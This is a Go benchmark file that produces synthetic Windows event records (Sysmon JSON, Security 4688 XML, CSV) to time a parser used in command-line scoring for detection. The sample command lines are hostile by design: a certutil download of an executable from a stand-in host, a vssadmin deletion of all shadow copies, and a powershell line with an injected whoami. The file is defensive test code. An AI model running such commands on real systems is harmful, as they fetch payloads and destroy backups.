package winevent

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"scorecmdline/src/event"
)

// Record generators for benchmarks; each command line is distinct.
func jsonLine(i int) []byte {
	return fmt.Appendf(nil, `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h1","UtcTime":"2023-03-14 09:40:10.905","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c echo %d & certutil -urlcache -split -f http://x/y.exe y.exe","ParentImage":"C:\\Windows\\explorer.exe","ParentCommandLine":"explorer.exe","User":"D\\u","ProcessId":"12","ParentProcessId":"0x10"}`, i)
}

func xmlLine(i int) []byte {
	return fmt.Appendf(nil, `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID><TimeCreated SystemTime='2023-03-14T09:31:02.104511800Z'/><Channel>Security</Channel><Computer>h2</Computer></System><EventData><Data Name='SubjectUserName'>jdoe</Data><Data Name='SubjectDomainName'>CORP</Data><Data Name='NewProcessId'>0x1e24</Data><Data Name='NewProcessName'>C:\Windows\System32\vssadmin.exe</Data><Data Name='ProcessId'>0x19cc</Data><Data Name='CommandLine'>vssadmin.exe delete shadows /all /quiet &amp; rem %d</Data><Data Name='ParentProcessName'>C:\Windows\System32\cmd.exe</Data></EventData></Event>`, i)
}

const benchCSVHeader = "UtcTime,Computer,Image,CommandLine,ParentImage,User\n"

func csvLine(i int) []byte {
	return fmt.Appendf(nil, "2023-03-14 09:00:00,h3,C:\\W\\powershell.exe,\"powershell -c \"\"%d\"\"\n; whoami\",C:\\W\\cmd.exe,D\\v\n", i)
}

func gen(n int, line func(int) []byte) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		out[i] = line(i)
	}
	return out
}

// benchParse parses lines and fills an event from each record, as the
// modular input does before scoring.
func benchParse(b *testing.B, lines [][]byte, parse func([]byte) (Record, error)) {
	var (
		n   int
		ev  event.Event
		buf []byte
	)
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range lines {
			r, err := parse(l)
			if err != nil {
				b.Fatal(err)
			}
			buf = r.Fill(&ev, buf)
			n++
		}
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "rows/s")
}

// BenchmarkParseJSON parses the shared OTRF extracts when ../shared is
// present, else generated Sysmon records.
func BenchmarkParseJSON(b *testing.B) {
	var lines [][]byte
	dir := filepath.Join("..", "..", "..", "shared", "samples", "otrf")
	for _, name := range []string{"sysmon_eid1.jsonl", "security_4688.jsonl"} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			break
		}
		for l := range bytes.Lines(data) {
			lines = append(lines, bytes.TrimRight(l, "\n"))
		}
	}
	if len(lines) == 0 {
		b.Log("../shared absent: generated records")
		lines = gen(3000, jsonLine)
	}
	benchParse(b, lines, ParseJSON)
}

func BenchmarkParseXML(b *testing.B) { benchParse(b, gen(1000, xmlLine), ParseXML) }

func BenchmarkParseCSV(b *testing.B) {
	h, err := ParseCSVHeader([]byte(benchCSVHeader))
	if err != nil {
		b.Fatal(err)
	}
	benchParse(b, gen(1000, csvLine), h.Parse)
}
